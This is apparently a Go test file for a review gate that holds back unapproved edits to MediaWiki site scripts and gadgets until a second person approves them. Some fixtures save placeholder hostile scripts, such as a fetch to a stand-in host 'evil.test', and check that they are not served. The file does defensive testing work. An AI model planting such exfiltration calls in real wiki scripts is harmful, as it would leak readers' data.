package approved

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"sallyport/internal/mediawiki"
	"sallyport/internal/store"
	"sallyport/internal/store/sqlstore"
	"sallyport/internal/wiki"
)

// town is a wiki in memory with a book.
type town struct {
	*testing.T
	*Book
	site   *wiki.Site
	pages  map[wiki.Title]wiki.Page
	rev    int64
	people int
	asked  int // times that texts were asked for
	down   bool
	clock  time.Time
}

func newTown(t *testing.T) *town {
	t.Helper()
	w := &town{T: t, site: &wiki.Site{
		ID: "w", Server: "https://w.example", ScriptPath: "/w", ArticlePath: "/wiki/$1",
		Namespaces: map[int]wiki.Namespace{},
	}, pages: map[wiki.Title]wiki.Page{}, rev: 10, clock: time.Date(2026, 3, 5, 12, 0, 0, 0, time.UTC)}
	for id, name := range map[int]string{0: "", 2: "User", 8: "MediaWiki"} {
		w.site.Namespaces[id] = wiki.Namespace{ID: id, Name: name, Canonical: name}
	}
	db, err := sqlstore.Open(t.Context(), "")
	w.ok(err)
	t.Cleanup(func() { _ = db.Close() })
	w.Book = New(w.options(db))
	return w
}

func (w *town) options(db Store) Options {
	return Options{
		Site: w.site, Store: db, Serve: []string{"site-code", "gadget", "popular"}, Least: 10, Now: func() time.Time { return w.clock },
		Heads: func(_ context.Context, titles []wiki.Title) ([]mediawiki.Head, error) {
			if w.down {
				return nil, errors.New("down")
			}
			heads := make([]mediawiki.Head, len(titles))
			for i, t := range titles {
				p := w.pages[t]
				heads[i] = mediawiki.Head{Title: t, ID: p.ID, Rev: p.Rev}
			}
			return heads, nil
		},
		Pages: func(_ context.Context, titles []wiki.Title) ([]wiki.Page, error) {
			w.asked++
			pages := make([]wiki.Page, len(titles))
			for i, t := range titles {
				pages[i] = w.pages[t]
			}
			return pages, nil
		},
		AllPages: func(_ context.Context, ns int, yield func([]wiki.Page) error) error {
			var all []wiki.Page
			for t := range w.pages {
				if t.NS == ns {
					all = append(all, wiki.Page{Title: t})
				}
			}
			return yield(all)
		},
		Audience: func(context.Context, wiki.Title) (int, bool, error) { return w.people, true, nil },
		Groups:   func(context.Context, string) ([]string, error) { return []string{"*", "user", "sysop"}, nil },
		Messages: func(_ context.Context, keys []string, _ string) (map[string]string, error) {
			return map[string]string{keys[0]: "says"}, nil
		},
	}
}

func (w *town) ok(err error) {
	w.Helper()
	if err != nil {
		w.Fatal(err)
	}
}

func (w *town) title(name string) wiki.Title {
	w.Helper()
	t, err := w.site.Parse(name)
	w.ok(err)
	return t
}

func (w *town) save(name, text string) {
	w.Helper()
	t := w.title(name)
	w.rev++
	w.pages[t] = wiki.Page{Title: t, ID: 5, Rev: w.rev, Model: wiki.DefaultModel(t), Text: text, Author: "Mallory", Touched: w.clock}
}

// module looks at one.
func (w *town) module(name string) *Module {
	w.Helper()
	all, err := w.Modules(w.Context(), []string{name}, View{Skin: "vector", User: "Ulo"})
	w.ok(err)
	if len(all) != 1 {
		w.Fatalf("%s: %d modules", name, len(all))
	}
	return &all[0]
}

func (w *town) build(m *Module) *Built {
	w.Helper()
	built, err := w.Build(w.Context(), m, View{Skin: "vector"})
	w.ok(err)
	return built
}

var reviewer = wiki.User{ID: 7, Name: "Ira", Rights: []string{"editinterface", "editsitejs"}}

func (w *town) approve(name, text string) {
	w.Helper()
	w.clock = w.clock.Add(time.Minute)
	w.ok(w.Decide(w.Context(), w.title(name), store.DigestOf(text), reviewer, store.ReviewApproved, "read"))
}

func TestWhatIsServedFollowsFromTheStateAlone(t *testing.T) {
	for _, c := range []struct {
		now   store.Digest
		state store.ReviewState
		last  store.Digest
		want  store.Digest
	}{
		{"b", store.ReviewApproved, "a", "b"}, {"b", store.ReviewWaiting, "a", "a"}, {"b", store.ReviewRejected, "a", "a"},
		{"b", store.ReviewWaiting, "", ""}, {"", store.ReviewWaiting, "a", ""}, {"b", "", "a", "a"},
	} {
		if got := Choose(c.now, c.state, c.last); got != c.want {
			t.Errorf("Choose(%q, %q, %q) = %q, want %q", c.now, c.state, c.last, got, c.want)
		}
	}
}

func TestATextWaitsUntilSomebodyElseApprovesIt(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Common.js", "good();")
	w.ok(w.Begin(t.Context()))
	if m := w.module("site"); m.Pinned {
		t.Fatalf("what was found is pinned: %+v", m)
	}
	w.save("MediaWiki:Common.js", "fetch( '//evil.test' );")
	m := w.module("site")
	if !m.Pinned {
		t.Fatal("the new text is served")
	}
	if built := w.build(m); strings.Contains(string(built.Combined)+string(built.Scripts), "evil") || !strings.Contains(string(built.Combined), "good()") ||
		!strings.Contains(string(built.Combined), `"site@`+m.Version()+`"`) {
		t.Errorf("built %s\n%s", built.Combined, built.Scripts)
	}
	waiting, err := w.Waiting(t.Context(), 10)
	w.ok(err)
	if len(waiting) != 1 || waiting[0].Author != "Mallory" || waiting[0].Title != "MediaWiki:Common.js" {
		t.Fatalf("waiting: %+v", waiting)
	}
	digest, title := waiting[0].Digest, w.title("MediaWiki:Common.js")
	for what, c := range map[string]struct {
		by     wiki.User
		state  store.ReviewState
		reason string
		want   error
	}{
		"nobody":      {wiki.User{}, store.ReviewApproved, "", ErrNotReviewer},
		"a reader":    {wiki.User{ID: 3, Name: "Ulo"}, store.ReviewApproved, "", ErrNotReviewer},
		"its author":  {wiki.User{ID: 4, Name: "Mallory", Rights: reviewer.Rights}, store.ReviewApproved, "", ErrOwn},
		"for no good": {reviewer, store.ReviewRejected, " ", ErrNoReason},
	} {
		if err := w.Decide(t.Context(), title, digest, c.by, c.state, c.reason); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", what, err, c.want)
		}
	}
	pinned := m.Version()
	w.approve("MediaWiki:Common.js", "fetch( '//evil.test' );")
	if m := w.module("site"); m.Pinned || m.Version() == pinned {
		t.Errorf("approved, and still pinned: %+v", m)
	}
	if err := w.Decide(t.Context(), title, digest, reviewer, store.ReviewApproved, ""); !errors.Is(err, ErrDecided) {
		t.Errorf("twice: %v", err)
	}
	w.ok(w.Decide(t.Context(), title, digest, reviewer, store.ReviewRejected, "it sends text away"))
	if m := w.module("site"); !m.Pinned || m.Version() != pinned {
		t.Errorf("rejected afterwards, and served: %+v", m)
	}
	log, err := w.o.Store.(store.Store).Entries(t.Context(), "w", 0, 10)
	w.ok(err)
	if len(log) != 2 || log[0].Kind != "review" || !strings.Contains(log[1].Body, "sends text away") {
		t.Errorf("log: %+v", log)
	}
}

func TestAPageThatIsNewRunsNothingAndOneThatWasDeletedNeither(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Common.js", "good();")
	w.ok(w.Begin(t.Context()))
	w.save("MediaWiki:Vector.js", "fetch( '//evil.test' );")
	if m := w.module("site"); !m.Pinned || strings.Contains(string(w.build(m).Scripts), "evil") || !strings.Contains(string(w.build(m).Scripts), "good()") {
		t.Errorf("a new page: %+v", m)
	}
	w.save("MediaWiki:Group-sysop.js", "evil();")
	if m := w.module("user"); !m.Pinned || strings.Contains(string(w.build(m).Combined), "evil") {
		t.Errorf("a group's page: %+v", m)
	}
	delete(w.pages, w.title("MediaWiki:Vector.js"))
	delete(w.pages, w.title("MediaWiki:Common.js"))
	if m := w.module("site"); m.Pinned {
		t.Errorf("deleted pages: %+v", m)
	}
}

func TestAGadgetIsWhatItsApprovedDefinitionSays(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Gadgets-definition", "* a [ResourceLoader] | a.js | a.css\n* pack [ResourceLoader|package] | pack.js | data.json")
	for page, text := range map[string]string{"a.js": "one();", "a.css": "p { color: red; }", "pack.js": "require( './data.json' );", "data.json": `{"n":1}`} {
		w.save("MediaWiki:Gadget-"+page, text)
	}
	w.ok(w.Begin(t.Context()))
	for _, name := range []string{"ext.gadget.a", "ext.gadget.pack"} {
		if m := w.module(name); m.Pinned {
			t.Errorf("%s is pinned", name)
		}
	}
	w.save("MediaWiki:Gadget-evil.js", "evil();")
	w.save("MediaWiki:Gadgets-definition", "* a [ResourceLoader|default] | a.js | a.css | evil.js\n* pack [ResourceLoader|package|rights=edit] | pack.js | data.json\n* new [ResourceLoader|default] | evil.js")
	a := w.module("ext.gadget.a")
	built := w.build(a)
	if !a.Pinned || strings.Contains(string(built.Combined), "evil") || !strings.Contains(string(built.Combined), "one()") || !strings.Contains(string(built.Styles), "red") {
		t.Errorf("a page added: %s", built.Combined)
	}
	if m := w.module("ext.gadget.pack"); m.Pinned {
		t.Error("a gadget that is made of the same is pinned")
	}
	if m := w.module("ext.gadget.new"); !m.Pinned || !m.Gone {
		t.Errorf("a new gadget: %+v", m)
	}
	w.save("MediaWiki:Gadget-data.json", `{"n":2}`)
	if m := w.module("ext.gadget.pack"); !m.Pinned || !strings.Contains(string(w.build(m).Combined), `"n":1`) {
		t.Errorf("a page of a package: %s", w.build(m).Combined)
	}
	w.save("MediaWiki:Gadgets/b.json", `{"settings":{},"module":{"pages":["evil.js"]}}`)
	if m := w.module("ext.gadget.b"); !m.Gone {
		t.Errorf("a JSON definition: %+v", m)
	}
}

func TestWhatARedirectLeadsToIsLookedAfterToo(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Common.js", `/* #REDIRECT */mw.loader.load("//w.example/w/index.php?title=User:Mara/main.js&action=raw&ctype=text/javascript");`)
	w.save("User:Mara/main.js", "good();")
	w.ok(w.Begin(t.Context()))
	if m := w.module("site"); m.Pinned {
		t.Fatal("pinned")
	}
	w.save("User:Mara/main.js", "evil();")
	m := w.module("site")
	if built := w.build(m); !m.Pinned || strings.Contains(string(built.Scripts), "evil") || !strings.Contains(string(built.Scripts), "good()") {
		t.Errorf("built %s", built.Scripts)
	}
}

func TestAPopularScriptIsTakenAsItIsFoundAndAnUnpopularOneIsNot(t *testing.T) {
	w := newTown(t)
	w.ok(w.Begin(t.Context()))
	title := w.title("User:Mara/doit.js")
	look := func() Page {
		t.Helper()
		pages, err := w.Look(t.Context(), []wiki.Title{title})
		w.ok(err)
		return pages[0]
	}
	w.people = 9
	w.save("User:Mara/doit.js", "one();")
	if p := look(); p.Pinned() || p.Tier != None {
		t.Errorf("nine people: %+v", p)
	}
	w.people = 10
	if p := look(); p.Pinned() || p.Tier != Popular {
		t.Errorf("ten people: %+v", p)
	}
	w.save("User:Mara/doit.js", "two();")
	if p := look(); !p.Pinned() || p.Serve != store.DigestOf("one();") {
		t.Errorf("changed: %+v", p)
	}
	w.ok(w.Decide(t.Context(), title, store.DigestOf("one();"), reviewer, store.ReviewRejected, "no"))
	w.save("User:Mara/doit.js", "three();")
	if p := look(); p.Serve != "" {
		t.Errorf("the only approved text was rejected, and the next is served: %+v", p)
	}
}

func TestAfterARejectionOfTheOnlyTextNothingIsServed(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Common.js", "one();")
	w.ok(w.Begin(t.Context()))
	w.module("site")
	w.ok(w.Decide(t.Context(), w.title("MediaWiki:Common.js"), store.DigestOf("one();"), reviewer, store.ReviewRejected, "no"))
	w.save("MediaWiki:Common.js", "two();")
	if m := w.module("site"); !m.Pinned || len(w.build(m).Scripts) != 0 {
		t.Errorf("served: %s", w.build(m).Scripts)
	}
}

func TestTextsAreAskedForOnceAndAWikiThatIsDownIsAnError(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Common.js", "good();")
	w.ok(w.Begin(t.Context()))
	before := w.asked
	for range 5 {
		w.module("site")
	}
	if w.asked != before {
		t.Errorf("texts were asked for %d more times", w.asked-before)
	}
	w.down = true
	if _, err := w.Modules(t.Context(), []string{"site"}, View{Skin: "vector"}); err == nil {
		t.Error("no error")
	}
}

func TestTwoProcessesOnOneStoreAgreeAtOnce(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Common.js", "good();")
	w.ok(w.Begin(t.Context()))
	other := New(w.options(w.o.Store))
	w.save("MediaWiki:Common.js", "two();")
	pinned := func() bool {
		t.Helper()
		all, err := other.Modules(t.Context(), []string{"site"}, View{Skin: "vector"})
		w.ok(err)
		return all[0].Pinned
	}
	if !pinned() {
		t.Error("the other serves it")
	}
	w.approve("MediaWiki:Common.js", "two();")
	if pinned() {
		t.Error("the other does not know that it is approved")
	}
}

func TestModulesOfTiersThatNobodyNamedAreTheWikisAlone(t *testing.T) {
	w := newTown(t)
	o := w.options(w.o.Store)
	o.Serve = []string{"site-code"}
	b := New(o)
	all, err := b.Modules(t.Context(), []string{"ext.gadget.a", "mediawiki.util", "jquery", "", "site", "ext.gadget."}, View{Skin: "vector"})
	if w.ok(err); len(all) != 1 || all[0].Name != "site" {
		t.Errorf("modules: %+v", all)
	}
}

func TestWhatTwoPeopleApprovedAtTheWriteDoorIsServed(t *testing.T) {
	w := newTown(t)
	w.save("MediaWiki:Common.js", "good();")
	w.save("MediaWiki:Vector.js", "skin();")
	w.ok(w.Begin(t.Context()))
	w.save("MediaWiki:Common.js", "two();")
	w.save("MediaWiki:Vector.js", "alone();")
	if m := w.module("site"); !m.Pages[0].Pinned() || !m.Pages[1].Pinned() {
		t.Fatal("served before anybody read the log")
	}
	db := w.o.Store.(store.Store)
	revision := func(_ context.Context, rev int64) (wiki.Page, error) {
		for _, p := range w.pages {
			if p.Rev == rev {
				return p, nil
			}
		}
		return wiki.Page{}, mediawiki.ErrNoRevision
	}
	entry := func(kind, policy string, rev int64) store.Entry {
		return store.Entry{Wiki: "w", At: w.clock, Kind: kind, Body: fmt.Sprintf(`{"policy":%q,"revision":%d}`, policy, rev)}
	}
	common, vector := w.pages[w.title("MediaWiki:Common.js")].Rev, w.pages[w.title("MediaWiki:Vector.js")].Rev
	w.ok(db.Append(t.Context(), "w", entry("done", "two-person", 4), entry("approved", "two-person", vector), entry("done", "approve", vector), entry("done", "two-person", common)))
	for range 2 {
		w.ok(w.Follow(t.Context(), db, revision, mediawiki.ErrNoRevision))
	}
	if m := w.module("site"); m.Pages[0].Pinned() || !m.Pages[1].Pinned() {
		t.Errorf("afterwards: %+v", m.Pages)
	}
}
